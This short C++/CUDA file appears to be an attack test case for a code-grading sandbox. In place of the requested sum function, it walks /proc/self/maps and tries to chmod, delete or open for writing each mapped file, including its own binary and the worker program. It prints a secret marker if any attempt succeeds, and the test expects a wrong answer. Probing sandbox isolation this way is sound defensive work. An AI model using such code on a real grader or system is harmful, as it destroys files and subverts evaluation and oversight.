// attack: 14 changes the compiled file and the worker's program
// expect: wrong_answer 0

#include "sum_divergent.h"

#include <cstdio>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

extern "C" cudaError_t sum_divergent(const int *in, size_t n, unsigned block, int *scratch, int *sum)
{
    char line[4096], path[4096];
    FILE *maps = fopen("/proc/self/maps", "r");
    while (maps && fgets(line, sizeof line, maps))
        if (sscanf(line, "%*s %*s %*s %*s %*s %4095s", path) == 1 && path[0] == '/' &&
            (chmod(path, 0777) == 0 || unlink(path) == 0 || open(path, O_WRONLY) >= 0))
            puts("@SECRET@");
    return cudaSuccess;
}
